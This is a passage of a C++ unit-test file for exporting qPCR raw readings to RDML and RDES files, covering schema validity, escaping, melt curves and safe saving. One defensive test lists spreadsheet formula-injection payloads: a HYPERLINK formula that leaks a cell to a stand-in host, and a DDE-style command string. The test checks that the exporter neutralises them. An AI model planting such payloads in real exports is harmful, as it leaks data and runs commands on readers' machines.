#include "export/atomicsave.h"
#include "export/excelcom.h"
#include "export/exportcommand.h"
#include "rdml/rdes.h"
#include "rdml/rdml.h"

#include "common/text.h"
#include "conversion/meltcurve.h"
#include "conversion/meltpeaks.h"
#include "conversion/platesize.h"
#include "conversion/programs.h"
#include "conversion/welltable.h"
#include "layout/platelayout.h"

#include "conversion/rawexport_builder.h"
#include "xlsx/xlsxtest.h"

#include <gtest/gtest.h>
#include <libxml/parser.h>
#include <libxml/xmlschemas.h>
#include <pugixml.hpp>

#include <algorithm>
#include <cstdarg>
#include <iterator>
#include <map>
#include <regex>
#include <set>
#include <sstream>

namespace morvane {
namespace {

namespace fs = std::filesystem;

const std::string kDataDir = MORVANE_TESTDATA_DIR;

void collectMessage(void* context, const char* format, ...)
{
    char buffer[1024];
    va_list args;
    va_start(args, format);
    std::vsnprintf(buffer, sizeof buffer, format, args);
    va_end(args);
    *static_cast<std::string*>(context) += buffer;
}

// An RDML schema, parsed once; problems() says what the schema finds wrong with a document.
class Rdml13Schema {
public:
    explicit Rdml13Schema(const char* file = "RDML_v1_3_REC.xsd")
    {
        xmlSchemaParserCtxtPtr parser = xmlSchemaNewParserCtxt((kDataDir + "/rdml/" + file).c_str());
        m_schema = xmlSchemaParse(parser);
        xmlSchemaFreeParserCtxt(parser);
    }
    ~Rdml13Schema() { xmlSchemaFree(m_schema); }
    bool loaded() const { return m_schema != nullptr; }

    // Empty when the document is valid.
    std::string problems(const std::string& xml) const
    {
        std::string messages;
        xmlSetGenericErrorFunc(&messages, collectMessage);
        xmlDocPtr doc = xmlReadMemory(xml.data(), static_cast<int>(xml.size()), "rdml_data.xml", nullptr,
                                      XML_PARSE_NONET | XML_PARSE_HUGE);
        if (!doc) {
            xmlSetGenericErrorFunc(nullptr, nullptr);
            return "not well-formed: " + messages;
        }
        xmlSchemaValidCtxtPtr validator = xmlSchemaNewValidCtxt(m_schema);
        xmlSchemaSetValidErrors(validator, collectMessage, collectMessage, &messages);
        const int result = xmlSchemaValidateDoc(validator, doc);
        xmlSchemaFreeValidCtxt(validator);
        xmlFreeDoc(doc);
        xmlSetGenericErrorFunc(nullptr, nullptr);
        if (result == 0)
            return "";
        return messages.empty() ? "invalid" : messages;
    }

private:
    xmlSchemaPtr m_schema = nullptr;
};

const Rdml13Schema& schema()
{
    static const Rdml13Schema parsed;
    return parsed;
}

const Rdml13Schema& schema14()
{
    static const Rdml13Schema parsed("RDML_v1_4_CR.xsd");
    return parsed;
}

// A raw export converted as the window saves it: the first run, every channel, its melt curve.
ConvertedChannels convert(const RawText& raw)
{
    auto programs = detectPrograms(raw);
    EXPECT_TRUE(programs.ok()) << describe(programs.error());
    const auto plate = recognisePlateSize(raw);
    const OfferedRun& run = programs->runs.front();
    auto converted =
        convertEveryChannel(raw, *programs, run.program, run.segment,
                            plate.ok() ? plate->value_or(PlateFormat::Wells96) : PlateFormat::Wells96, true, "unnamed");
    EXPECT_TRUE(converted.ok()) << describe(converted.error());
    return std::move(converted).value();
}

ConvertedChannels convertFile(const std::string& name)
{
    auto raw = loadRawFile(kDataDir + "/" + name);
    EXPECT_TRUE(raw.ok()) << name;
    return convert(*raw);
}

std::string pointed(std::string text)
{
    std::replace(text.begin(), text.end(), ',', '.');
    return text;
}

// What a reader finds in the file: (react id, target, cycle) -> fluor, and the melt points.
struct ReadBack {
    std::map<std::tuple<int, std::string, int>, std::string> adp;
    std::map<std::pair<int, std::string>, std::vector<std::pair<std::string, std::string>>> mdp;
    std::map<int, std::string> sampleOfReact;
    std::vector<int> reactIds;
    std::set<std::string> samples;
};

ReadBack readBack(const std::string& xml)
{
    ReadBack back;
    pugi::xml_document doc;
    EXPECT_TRUE(doc.load_buffer(xml.data(), xml.size()));
    const pugi::xml_node rdml = doc.child("rdml");
    for (pugi::xml_node sample : rdml.children("sample"))
        back.samples.insert(sample.attribute("id").value());
    for (pugi::xml_node react : rdml.child("experiment").child("run").children("react")) {
        const int id = react.attribute("id").as_int();
        back.reactIds.push_back(id);
        back.sampleOfReact[id] = react.child("sample").attribute("id").value();
        for (pugi::xml_node data : react.children("data")) {
            const std::string target = data.child("tar").attribute("id").value();
            for (pugi::xml_node adp : data.children("adp"))
                back.adp[{id, target, adp.child("cyc").text().as_int()}] = adp.child("fluor").text().get();
            for (pugi::xml_node mdp : data.children("mdp"))
                back.mdp[{id, target}].emplace_back(mdp.child("tmp").text().get(), mdp.child("fluor").text().get());
        }
    }
    return back;
}

int reactIdOf(PlateFormat format, const std::string& well)
{
    const int row = upperAscii(well[0]) - 'A' + 1;
    return reactId(format, row, std::stoi(well.substr(1)));
}

// Every reading of every table, and every melt point, is in the file exactly once.
void expectHoldsTheReadings(const ConvertedChannels& converted, const ReadBack& back,
                            const std::vector<bool>& ticks = {})
{
    std::size_t readings = 0;
    std::set<int> expectedReacts;
    for (std::size_t channel = 0; channel < converted.tables.size(); ++channel) {
        const Grid& grid = converted.tables[channel].grid;
        const std::string& target = converted.channels[channel];
        for (int row = 1; row < grid.rowCount(); ++row) {
            const int id = reactIdOf(converted.format, grid.cell(row, 0));
            const WellPos pos{(id - 1) / plateCols(converted.format) + 1, (id - 1) % plateCols(converted.format) + 1};
            if (!ticks.empty() && !ticks[static_cast<std::size_t>(checkListIndex(converted.format, pos.row, pos.col))])
                continue;
            expectedReacts.insert(id);
            std::string sample = grid.cell(row, 1);
            sample = sample.empty() ? grid.cell(row, 0) : sample.substr(1);
            EXPECT_EQ(back.sampleOfReact.at(id), sample);
            for (int col = 2; col < grid.colCount(); ++col) {
                if (grid.cell(row, col).empty())
                    continue;
                ++readings;
                const auto found = back.adp.find({id, target, col - 1});
                ASSERT_NE(found, back.adp.end()) << grid.cell(row, 0) << " cycle " << col - 1;
                EXPECT_EQ(found->second, pointed(grid.cell(row, col))) << grid.cell(row, 0) << " cycle " << col - 1;
            }
        }
    }
    EXPECT_EQ(back.adp.size(), readings);
    EXPECT_EQ(std::set<int>(back.reactIds.begin(), back.reactIds.end()), expectedReacts);
    EXPECT_TRUE(std::is_sorted(back.reactIds.begin(), back.reactIds.end()));

    if (!converted.melt) {
        EXPECT_TRUE(back.mdp.empty());
        return;
    }
    const MeltCurves& melt = *converted.melt;
    for (const MeltWell& well : melt.wells) {
        const int id = reactIdOf(converted.format, well.name);
        if (!expectedReacts.count(id))
            continue;
        for (std::size_t channel = 0; channel < melt.channels.size(); ++channel) {
            const auto& points = back.mdp.at({id, melt.channels[channel]});
            ASSERT_EQ(points.size(), well.temperatures.size()) << well.name;
            for (std::size_t p = 0; p < points.size(); ++p) {
                EXPECT_EQ(points[p].first, pointed(well.temperatures[p]));
                EXPECT_EQ(points[p].second, pointed(well.readings[p * melt.channels.size() + channel]));
            }
        }
    }
}

TEST(Rdml, TheSchemaIsAtHand)
{
    ASSERT_TRUE(schema().loaded());
}

// The real exports and the multi-channel fixtures: valid RDML holding exactly the raw readings.
TEST(Rdml, EveryExportGivesAValidFileHoldingExactlyItsReadings)
{
    const struct {
        const char* file;
        std::size_t reacts;
        std::size_t channels;
        bool melt;
    } cases[] = {
        {"lc480_384_nrd1_calibration.txt", 384, 1, true},    {"lc480_96_example_excel_damaged.txt", 96, 1, false},
        {"channels/lc480_96_dual_colour.txt", 96, 2, true},  {"channels/lc480_384_three_colour.txt", 384, 3, false},
        {"channels/lc480_96_two_segments.txt", 96, 1, true},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.file);
        const ConvertedChannels converted = convertFile(c.file);
        RdmlSummary summary;
        const auto archive = rdmlArchive(rdmlContent(converted), &summary);
        ASSERT_TRUE(archive.ok()) << archive.error().message;
        const std::string xml = xlsxtest::part(*archive, "rdml_data.xml");
        EXPECT_EQ(schema().problems(xml), "");
        EXPECT_EQ(summary.reacts, static_cast<int>(c.reacts));
        EXPECT_EQ(converted.channels.size(), c.channels);
        EXPECT_EQ(converted.melt.has_value(), c.melt);
        const ReadBack back = readBack(xml);
        EXPECT_EQ(back.reactIds.size(), c.reacts);
        expectHoldsTheReadings(converted, back);
    }
}

TEST(Rdml, TheRealMeltCurveIsFoundWithAllItsPoints)
{
    const ConvertedChannels converted = convertFile("lc480_384_nrd1_calibration.txt");
    ASSERT_TRUE(converted.melt);
    EXPECT_EQ(converted.melt->program, 3);
    EXPECT_EQ(converted.melt->wells.size(), 384u);
    EXPECT_EQ(converted.melt->wells.front().temperatures.size(), 176u);
    EXPECT_EQ(converted.melt->wells.front().temperatures.front(), "59.93");
    EXPECT_EQ(converted.melt->wells.front().readings.front(), "5.40");
    EXPECT_EQ(converted.melt->repeatedTemperatures, 0u);
}

TEST(Rdml, TheDocumentHasTheDeclarationsTheRunAndThePlate)
{
    const ConvertedChannels converted = convertFile("channels/lc480_96_dual_colour.txt");
    const auto xml = rdmlXml(rdmlContent(converted));
    ASSERT_TRUE(xml.ok());
    pugi::xml_document doc;
    ASSERT_TRUE(doc.load_string(xml->c_str()));
    const pugi::xml_node rdml = doc.child("rdml");
    EXPECT_STREQ(rdml.attribute("xmlns").value(), "http://www.rdml.org");
    EXPECT_STREQ(rdml.attribute("version").value(), "1.3");
    EXPECT_STREQ(rdml.child("target").child("dyeId").attribute("id").value(), "465-510");
    const pugi::xml_node run = rdml.child("experiment").child("run");
    EXPECT_STREQ(rdml.child("experiment").attribute("id").value(), "Dual colour test");
    EXPECT_STREQ(run.attribute("id").value(), "program 2");
    // The run's own facts: the software of the title line, the temperature of every reading.
    EXPECT_STREQ(run.child("dataCollectionSoftware").child("name").text().get(), "LCS480");
    EXPECT_STREQ(run.child("dataCollectionSoftware").child("version").text().get(), "1.5.1.62");
    EXPECT_STREQ(run.child("react").child("data").child("adp").child("tmp").text().get(), "59.95");
    EXPECT_EQ(run.child("pcrFormat").child("rows").text().as_int(), 8);
    EXPECT_EQ(run.child("pcrFormat").child("columns").text().as_int(), 12);
    EXPECT_STREQ(run.child("pcrFormat").child("rowLabel").text().get(), "ABC");
    EXPECT_STREQ(run.child("pcrFormat").child("columnLabel").text().get(), "123");
    // Wells without a sample name are samples of their own, named after the well.
    const ReadBack back = readBack(*xml);
    EXPECT_EQ(back.sampleOfReact.at(1), "A1");
    EXPECT_EQ(back.sampleOfReact.at(2), "Sample 2");
    EXPECT_EQ(back.samples.count("Sample 2"), 1u);
    // The melt points follow the amplification points in each data.
    const pugi::xml_node data = run.child("react").child("data");
    EXPECT_STREQ(data.last_child().name(), "mdp");
    EXPECT_STREQ(data.child("mdp").previous_sibling().name(), "adp");
}

TEST(Rdml, APartialPlateHoldsTheChosenWellsOnly)
{
    const ConvertedChannels converted = convertFile("channels/lc480_96_dual_colour.txt");
    RdmlContent content = rdmlContent(converted);
    content.ticks.assign(96, false);
    for (const char* well : {"A1", "A12", "C3", "H12"}) {
        const int id = reactIdOf(PlateFormat::Wells96, well);
        const int row = (id - 1) / 12 + 1;
        const int col = (id - 1) % 12 + 1;
        content.ticks[static_cast<std::size_t>(checkListIndex(PlateFormat::Wells96, row, col))] = true;
    }
    const auto xml = rdmlXml(content);
    ASSERT_TRUE(xml.ok());
    EXPECT_EQ(schema().problems(*xml), "");
    const ReadBack back = readBack(*xml);
    EXPECT_EQ(back.reactIds, (std::vector<int>{1, 12, 27, 96}));
    expectHoldsTheReadings(converted, back, content.ticks);
}

// The validator is worth trusting only when it rejects what a reader would stumble over.
TEST(Rdml, TheSchemaCatchesWhatMatters)
{
    const ConvertedChannels converted = convertFile("channels/lc480_96_dual_colour.txt");
    const auto xml = rdmlXml(rdmlContent(converted));
    ASSERT_TRUE(xml.ok());
    ASSERT_EQ(schema().problems(*xml), "");
    const std::string firstReact =
        xml->substr(xml->find("<react id=\"1\">"), xml->find("</react>") + 8 - xml->find("<react id=\"1\">"));
    const auto firstFluor = xml->find("<fluor>") + 7;
    const std::string fluor = xml->substr(firstFluor, xml->find('<', firstFluor) - firstFluor);
    ASSERT_NE(fluor.find('.'), std::string::npos);
    std::string commaFluor = fluor;
    commaFluor[commaFluor.find('.')] = ',';
    const auto firstSample = xml->find("<sample ");
    const auto firstTarget = xml->find("<target ");
    const std::string targets = xml->substr(firstTarget, xml->find("<experiment") - firstTarget);

    const struct {
        const char* what;
        std::string changed;
    } cases[] = {
        {"react id 0", std::regex_replace(*xml, std::regex("<react id=\"1\">"), "<react id=\"0\">")},
        {"a react twice", std::string(*xml).insert(xml->find("</run>"), firstReact + "\n")},
        {"a comma decimal", std::string(*xml).replace(firstFluor, fluor.size(), commaFluor)},
        {"targets before samples", std::string(*xml).erase(firstTarget, targets.size()).insert(firstSample, targets)},
        {"a react of an undeclared sample",
         std::regex_replace(*xml, std::regex("<sample id=\"A1\"/>\n<data>"), "<sample id=\"nobody\"/>\n<data>")},
    };
    for (const auto& c : cases)
        EXPECT_NE(schema().problems(c.changed), "") << c.what;
}

TEST(Rdml, NamesAreEscapedOrRefused)
{
    Grid table(3, 4, 1, 1);
    table.setCell(0, 0, "well");
    table.setCell(0, 1, "sample");
    table.setCell(0, 2, "1");
    table.setCell(0, 3, "2");
    table.setCell(1, 0, "A1");
    table.setCell(1, 1, " <Tom> & \"Jerry\" 'né'");
    table.setCell(1, 2, "1,5");
    table.setCell(1, 3, "");
    table.setCell(2, 0, "b2");
    table.setCell(2, 2, "2.5E-1");
    table.setCell(2, 3, "-3");
    RdmlContent content;
    content.experiment = "Run <1> & co";
    content.run = "2";
    content.channels = {"465-510"};
    content.tables = {&table};

    const auto xml = rdmlXml(content);
    ASSERT_TRUE(xml.ok()) << xml.error().message;
    EXPECT_EQ(schema().problems(*xml), "");
    const ReadBack back = readBack(*xml);
    EXPECT_EQ(back.sampleOfReact.at(1), "<Tom> & \"Jerry\" 'né'");
    EXPECT_EQ(back.sampleOfReact.at(14), "B2"); // well named in lower case, sample named after it
    // An empty reading is left out, not written as 0; the comma becomes a point.
    EXPECT_EQ(back.adp, (std::map<std::tuple<int, std::string, int>, std::string>{
                            {{1, "465-510", 1}, "1.5"}, {{14, "465-510", 1}, "2.5E-1"}, {{14, "465-510", 2}, "-3"}}));

    const struct {
        const char* what;
        std::string experiment;
        std::string sample;
        std::string reading;
        std::string expected; // in the message
        bool rdesToo;         // RDES holds no experiment name
    } refusals[] = {
        {"control character", "Run", " bad\x01name", "1", "XML cannot hold", true},
        {"empty experiment", "", " x", "1", "experiment name is empty", false},
        {"tab in the experiment", "a\tb", " x", "1", "XML cannot hold", false},
        {"broken UTF-8", "Run \xC3", " x", "1", "not valid UTF-8", false},
        {"reading no number", "Run", " x", "12.3.4", "well A1, channel 465-510, cycle 1: '12.3.4' is not a number",
         true},
        {"date reading", "Run", " x", "16.11.2013", "is not a number", true},
    };
    for (const auto& r : refusals) {
        Grid bad = table;
        bad.setCell(1, 1, r.sample);
        bad.setCell(1, 2, r.reading);
        content.experiment = r.experiment;
        content.tables = {&bad};
        const auto refused = rdmlXml(content);
        ASSERT_FALSE(refused.ok()) << r.what;
        EXPECT_NE(refused.error().message.find(r.expected), std::string::npos)
            << r.what << ": " << refused.error().message;
        EXPECT_EQ(rdesTable(content).ok(), !r.rdesToo) << r.what;
    }
}

TEST(Rdml, WellsOffThePlateAndRepeatedWellsDoNotBreakTheFile)
{
    Grid table(5, 3, 1, 1);
    table.setCell(0, 2, "1");
    const char* wells[] = {"A1", "Q1", "A1", "H13"};
    for (int row = 1; row <= 4; ++row) {
        table.setCell(row, 0, wells[row - 1]);
        table.setCell(row, 2, std::to_string(row));
    }
    RdmlContent content;
    content.experiment = "Exp";
    content.run = "2";
    content.channels = {"483-533"};
    content.tables = {&table};
    RdmlSummary summary;
    const auto xml = rdmlXml(content, &summary);
    ASSERT_TRUE(xml.ok());
    EXPECT_EQ(schema().problems(*xml), "");
    EXPECT_EQ(summary.wellsOffPlate, (std::vector<std::string>{"Q1", "H13"}));
    EXPECT_EQ(readBack(*xml).adp, (std::map<std::tuple<int, std::string, int>, std::string>{{{1, "483-533", 1}, "1"}}));
}

TEST(Rdml, MeltProgramIsTheOneOfCycleOneWithRisingTemperature)
{
    using rawexport::Builder;
    const auto programOf = [](const std::string& text) {
        auto raw = RawText::fromBytes(text);
        auto programs = detectPrograms(*raw);
        EXPECT_TRUE(programs.ok());
        auto melt = findMeltProgram(*raw, *programs);
        EXPECT_TRUE(melt.ok());
        return melt->value_or(-1);
    };
    // Builder lines all stand at 59.9 degrees: no rise, no melt.
    Builder flat;
    flat.cycles("A1", "S", 2, 1, 3).melt("A1", "S", 3, 5);
    EXPECT_EQ(programOf(flat.text()), -1);

    const std::string head = std::string(rawexport::kTitle) + "\r\n" + std::string(rawexport::kHeader) + "\r\n";
    const auto line = [](const char* well, int program, int cycle, const char* temp, const char* reading) {
        return std::string(well) + "\tS\t" + std::to_string(program) + "\t1\t" + std::to_string(cycle) + "\t1000\t" +
               temp + "\t" + reading + "\r\n";
    };
    std::string amplification = line("A1", 2, 1, "60", "1") + line("A1", 2, 2, "60", "2");
    // A hold of one reading, a cooling step and a wobbling but rising melt, with a comma.
    std::string text = head + line("A1", 1, 1, "95", "1") + amplification + line("A1", 4, 1, "95", "1") +
                       line("A1", 4, 1, "40", "1") + line("A1", 5, 1, "60,5", "9") + line("A1", 5, 1, "60,2", "8") +
                       line("A1", 5, 1, "61,0", "7") + line("A1", 5, 1, "62,0", "6") + line("B1", 5, 1, "60,5", "5") +
                       line("B1", 5, 1, "60,50", "4") + line("B1", 5, 1, "61", "3");
    EXPECT_EQ(programOf(text), 5);
    // A program of cycle 1 in the first well that has later cycles is no melt.
    EXPECT_EQ(programOf(head + amplification + line("A1", 3, 1, "60", "1") + line("A1", 3, 2, "70", "1")), -1);

    auto raw = RawText::fromBytes(text);
    auto programs = detectPrograms(*raw);
    auto curves = readMeltCurves(*raw, *programs, 5);
    ASSERT_TRUE(curves.ok());
    ASSERT_EQ(curves->wells.size(), 2u);
    EXPECT_EQ(curves->wells[0].temperatures, (std::vector<std::string>{"60,5", "60,2", "61,0", "62,0"}));
    // 60,50 repeats B1's 60,5: the schema allows one point per temperature; the first stays.
    EXPECT_EQ(curves->wells[1].temperatures, (std::vector<std::string>{"60,5", "61"}));
    EXPECT_EQ(curves->wells[1].readings, (std::vector<std::string>{"5", "3"}));
    EXPECT_EQ(curves->repeatedTemperatures, 1u);
}

ConvertedChannels convertCalibration()
{
    return convertFile("lc480_384_nrd1_calibration.txt");
}

PlateLayout calibrationLayout()
{
    auto layout = readLayoutFile(kDataDir + "/layout/lc480_384_nrd1_calibration_layout.tsv");
    EXPECT_TRUE(layout.ok()) << layout.error().message;
    EXPECT_TRUE(fitLayout(*layout, PlateFormat::Wells384, std::vector<std::string>{"483-533"}).ok());
    return std::move(layout).value();
}

// The real plan on the real plate: samples with their types and quantities, a target per primer
// set, as RDML 1.4 and as RDES.
TEST(RdmlLayout, TheCalibrationPlanMakesAValid14FileOfItsExperiment)
{
    const ConvertedChannels converted = convertCalibration();
    const PlateLayout layout = calibrationLayout();
    RdmlContent content = rdmlContent(converted);
    content.layout = &layout;
    content.version = RdmlVersion::V1_4;
    content.dateMade = rdmlDateTime(0);
    const auto xml = rdmlXml(content);
    ASSERT_TRUE(xml.ok()) << xml.error().message;
    EXPECT_EQ(schema14().problems(*xml), "");
    EXPECT_NE(schema().problems(*xml), "") << "1.3 holds version 1.3 only";
    content.version = RdmlVersion::V1_3;
    EXPECT_EQ(schema().problems(*rdmlXml(content)), "");

    pugi::xml_document doc;
    ASSERT_TRUE(doc.load_string(xml->c_str()));
    const pugi::xml_node rdml = doc.child("rdml");
    EXPECT_STREQ(rdml.attribute("version").value(), "1.4");
    EXPECT_STREQ(rdml.child("dateMade").text().get(), "1970-01-01T00:00:00Z");
    std::map<std::string, std::string> typeOf;
    for (pugi::xml_node sample : rdml.children("sample"))
        typeOf[sample.attribute("id").value()] = sample.child("type").text().get();
    EXPECT_EQ(typeOf.at("NT"), "ntc");
    EXPECT_EQ(typeOf.at("A_-RT"), "nrt");
    const pugi::xml_node quantity = rdml.find_child_by_attribute("sample", "id", "B_25x").child("quantity");
    EXPECT_STREQ(quantity.child("value").text().get(), "25");
    EXPECT_STREQ(quantity.child("unit").text().get(), "dil");
    EXPECT_EQ(std::distance(rdml.children("target").begin(), rdml.children("target").end()), 16);
    EXPECT_STREQ(rdml.child("target").child("dyeId").attribute("id").value(), "SYBR Green I");
    // P24 (react 384): the last no-template control of the last primer set.
    const pugi::xml_node last = rdml.child("experiment").child("run").last_child();
    EXPECT_STREQ(last.attribute("id").value(), "384");
    EXPECT_STREQ(last.child("sample").attribute("id").value(), "NT");
    EXPECT_STREQ(last.child("data").child("tar").attribute("id").value(), "TFS1_5");
    EXPECT_STREQ(
        rdml.child("experiment").child("run").child("react").child("data").child("adp").child("tmp").text().get(),
        "59.9");

    const auto table = rdesTable(content);
    ASSERT_TRUE(table.ok());
    EXPECT_EQ(table->substr(table->find("\nA1\t") + 1, 38), "A1\tA_1x\tstd\tECM38_1\ttoi\tSYBR Green I\t\t");
}

// Checked by the consortium's own library when ../shared has it: valid, and its amplification
// analysis runs on the file as written, with one efficiency per primer set.
TEST(RdmlLayout, TheConsortiumsLibraryAnalysesTheFileAsWritten)
{
    const std::string library = MORVANE_RDMLPYTHON_DIR;
    if (!fs::exists(fs::path(library) / "rdml.py") ||
        std::system("/usr/bin/python3 -c 'import lxml, numpy, scipy, matplotlib' >/dev/null 2>&1") != 0)
        GTEST_SKIP() << "rdmlpython (" << library
                     << ") or python3-lxml, -numpy, -scipy, -matplotlib is "
                        "missing: the consortium's check was skipped";
    const ConvertedChannels converted = convertCalibration();
    const PlateLayout layout = calibrationLayout();
    RdmlContent content = rdmlContent(converted);
    content.layout = &layout;
    content.version = RdmlVersion::V1_4;
    const auto archive = rdmlArchive(content);
    ASSERT_TRUE(archive.ok());
    xlsxtest::TempDir dir;
    xlsxtest::writeFile(dir.path / "calibration.rdml", *archive);
    const std::string command = "/usr/bin/python3 '" + std::string(MORVANE_RDML_TESTS_DIR) + "/check_rdml.py' '" +
                                library + "' '" + (dir.path / "calibration.rdml").string() + "' > '" +
                                (dir.path / "out.txt").string() + "' 2>&1";
    const int status = std::system(command.c_str());
    const std::string out = xlsxtest::readFile(dir.path / "out.txt");
    ASSERT_EQ(status, 0) << out;
    // Run, 384 reactions, 16 targets, 64 no-template wells, then an efficiency per target: the
    // primer sets differ, so the efficiencies do.
    EXPECT_EQ(out.substr(0, 20), "program 2 384 16 64 ") << out;
    std::istringstream efficiencies(out.substr(std::min<std::size_t>(20, out.size())));
    const std::set<std::string> distinct{std::istream_iterator<std::string>(efficiencies), {}};
    EXPECT_GT(distinct.size(), 8u) << out;
}

// A program read at 95 and at 60 degrees: both reads are kept, the 60 degree one first.
TEST(RdmlLayout, EverySegmentOfTheProgramIsARunOfItsOwn)
{
    auto raw = loadRawFile(kDataDir + "/channels/lc480_96_two_segments.txt");
    ASSERT_TRUE(raw.ok());
    auto programs = detectPrograms(*raw);
    ASSERT_TRUE(programs.ok());
    EXPECT_EQ(programs->runs.front().name(), "2/2") << "the 60 degree read is offered first";
    const OfferedRun& first = programs->runs.front();
    auto runs = convertEverySegment(*raw, *programs, first.program, first.segment, PlateFormat::Wells96, true, "x");
    ASSERT_TRUE(runs.ok());
    const auto xml = rdmlXml(rdmlContent(*runs));
    ASSERT_TRUE(xml.ok());
    EXPECT_EQ(schema().problems(*xml), "");
    pugi::xml_document doc;
    ASSERT_TRUE(doc.load_string(xml->c_str()));
    std::vector<std::string> ids;
    std::vector<std::string> temperatures;
    for (pugi::xml_node run : doc.child("rdml").child("experiment").children("run")) {
        ids.emplace_back(run.attribute("id").value());
        const pugi::xml_node data = run.child("react").child("data");
        temperatures.emplace_back(data.child("adp").child("tmp").text().get());
        EXPECT_EQ(data.child("mdp").empty(), ids.size() > 1) << "the melt curve goes with the first run";
    }
    EXPECT_EQ(ids, (std::vector<std::string>{"program 2 segment 2", "program 2 segment 1"}));
    EXPECT_EQ(temperatures, (std::vector<std::string>{"59.95", "95.03"}));
}

TEST(Rdes, TheTableHasARowPerWellAndChannel)
{
    const ConvertedChannels converted = convertFile("channels/lc480_96_dual_colour.txt");
    RdmlSummary summary;
    const auto table = rdesTable(rdmlContent(converted), &summary);
    ASSERT_TRUE(table.ok());
    std::vector<std::string> lines;
    for (std::size_t start = 0; start < table->size();) {
        const std::size_t end = table->find('\n', start);
        ASSERT_NE(end, std::string::npos);
        lines.push_back(table->substr(start, end - start));
        start = end + 1;
    }
    ASSERT_EQ(lines.size(), 1u + 96 * 2);
    std::string header = "Well\tSample\tSample Type\tTarget\tTarget Type\tDye\tCq";
    for (int cycle = 1; cycle <= 40; ++cycle)
        header += "\t" + std::to_string(cycle);
    EXPECT_EQ(lines[0], header);
    EXPECT_EQ(lines[1].substr(0, lines[1].find("\t1.")), "A1\tA1\tunkn\t465-510\ttoi\t465-510\t");
    EXPECT_EQ(lines[2].substr(0, lines[2].find("\t2.")), "A1\tA1\tunkn\t533-580\ttoi\t533-580\t");
    EXPECT_EQ(lines[4].substr(0, 14), "A2\tSample 2\tun");
    const Grid& second = converted.tables[1].grid;
    std::string expected = "A1\tA1\tunkn\t533-580\ttoi\t533-580\t";
    for (int col = 2; col < second.colCount(); ++col)
        expected += "\t" + second.cell(1, col);
    EXPECT_EQ(lines[2], expected);
    EXPECT_EQ(summary.amplificationPoints, 96u * 2 * 40);
    EXPECT_EQ(table->find('\r'), std::string::npos);
}

// A spreadsheet opening the RDES table runs a cell starting with '=', '+', '@' or '-' as a
// formula: such a text cell starts with an apostrophe. RDML and the workbook hold text as text.
TEST(Rdes, TextThatASpreadsheetWouldRunAsAFormulaIsNot)
{
    const struct {
        std::string sample;
        std::string rdesCell;
    } cases[] = {
        {R"(=HYPERLINK("http://x.example/?leak="&A2, "click"))",
         R"('=HYPERLINK("http://x.example/?leak="&A2, "click"))"},
        {"=1+1", "'=1+1"},
        {"+2+3", "'+2+3"},
        {"@SUM(1)", "'@SUM(1)"},
        {"-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"},
        {"-", "'-"},
        {"-12.5", "-12.5"},
        {"a=b", "a=b"},
        {"Sample 2", "Sample 2"},
    };
    for (const auto& c : cases) {
        Grid table(2, 3, 1, 1);
        table.setCell(0, 2, "1");
        table.setCell(1, 0, "A1");
        table.setCell(1, 1, " " + c.sample);
        table.setCell(1, 2, "0.5");
        RdmlContent content;
        content.experiment = "Run";
        content.run = "2";
        content.channels = {"=465-510"};
        content.tables = {&table};
        const auto rdes = rdesTable(content);
        ASSERT_TRUE(rdes.ok()) << rdes.error().message;
        const std::string row = rdes->substr(rdes->find('\n') + 1);
        EXPECT_EQ(row, "A1\t" + c.rdesCell + "\tunkn\t'=465-510\ttoi\t'=465-510\t\t0.5\n") << c.sample;

        const auto xml = rdmlXml(content);
        ASSERT_TRUE(xml.ok()) << xml.error().message;
        EXPECT_EQ(readBack(*xml).sampleOfReact.at(1), c.sample);

        xlsxtest::TempDir dir;
        TExcelcom excel(dir.path / "book.xlsx");
        ASSERT_TRUE(exportGridToWorkbook(excel, table, "Run", '.').ok());
        const std::string workbook = xlsxtest::readFile(dir.path / "book.xlsx");
        const std::string sheet = xlsxtest::part(workbook, "xl/worksheets/sheet1.xml");
        EXPECT_EQ(sheet.find("<f"), std::string::npos) << c.sample;
        if (c.sample == "-12.5")
            continue; // a number, and written as one
        EXPECT_NE(sheet.find(R"(<c r="B2" s="1" t="s"><v>1</v></c>)"), std::string::npos) << sheet;
        pugi::xml_document strings;
        ASSERT_TRUE(strings.load_string(xlsxtest::part(workbook, "xl/sharedStrings.xml").c_str()));
        EXPECT_EQ(strings.child("sst").last_child().child("t").text().get(), " " + c.sample);
    }
}

TEST(RdmlSave, ANewFileIsWrittenAndAnExistingOneRefusedUnlessReplaced)
{
    xlsxtest::TempDir dir;
    const fs::path file = dir.path / "run.rdml";
    ASSERT_TRUE(saveNewFile(file, "first", ExistingFile::Refuse).ok());
    EXPECT_EQ(xlsxtest::readFile(file), "first");

    const auto refused = saveNewFile(file, "second", ExistingFile::Refuse);
    ASSERT_FALSE(refused.ok());
    EXPECT_EQ(refused.error().message, "'run.rdml' already exists");
    EXPECT_EQ(refused.error().kind, ErrorKind::Exists);
    EXPECT_EQ(xlsxtest::readFile(file), "first");

    ASSERT_TRUE(saveNewFile(file, "third", ExistingFile::Replace).ok());
    EXPECT_EQ(xlsxtest::readFile(file), "third");
    EXPECT_EQ(dir.files(), (std::vector<std::string>{"run.rdml"}));
}

// A name taken while the file was written is not replaced either.
class TakenMeanwhile : public SaveIo {
public:
    explicit TakenMeanwhile(fs::path target) : m_target(std::move(target)) {}
    std::error_code sync(std::FILE* file) override
    {
        xlsxtest::writeFile(m_target, "someone else's");
        return SaveIo::sync(file);
    }

private:
    fs::path m_target;
};

// A disk that fills up halfway.
class FailingWrite : public SaveIo {
public:
    std::error_code write(std::FILE*, std::string_view) override
    {
        return std::make_error_code(std::errc::no_space_on_device);
    }
};

TEST(RdmlSave, AFailureLeavesNoFileAndNoTemporaryFile)
{
    xlsxtest::TempDir dir;
    const auto missingFolder = saveNewFile(dir.path / "no such folder" / "run.rdml", "x", ExistingFile::Refuse);
    EXPECT_FALSE(missingFolder.ok());
    EXPECT_TRUE(dir.files().empty());
    for (const ExistingFile existing : {ExistingFile::Refuse, ExistingFile::Replace}) {
        FailingWrite full;
        const auto failed = saveNewFile(dir.path / "run.rdml", "x", existing, full);
        ASSERT_FALSE(failed.ok());
        EXPECT_NE(failed.error().message.find("'run.rdml' cannot be saved"), std::string::npos);
        EXPECT_TRUE(dir.files().empty());
    }

    const fs::path file = dir.path / "run.tsv";
    TakenMeanwhile io(file);
    const auto taken = saveNewFile(file, "mine", ExistingFile::Refuse, io);
    ASSERT_FALSE(taken.ok());
